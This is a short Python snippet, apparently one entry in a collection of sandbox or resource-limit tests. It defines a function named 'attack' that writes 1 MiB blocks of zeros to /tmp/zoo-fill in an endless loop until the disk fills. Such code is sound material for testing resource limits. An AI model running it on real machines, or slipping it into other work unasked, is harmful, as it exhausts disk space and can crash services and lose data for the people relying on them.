"""Fills /tmp by bytes."""

def attack(x):
    with open("/tmp/zoo-fill", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
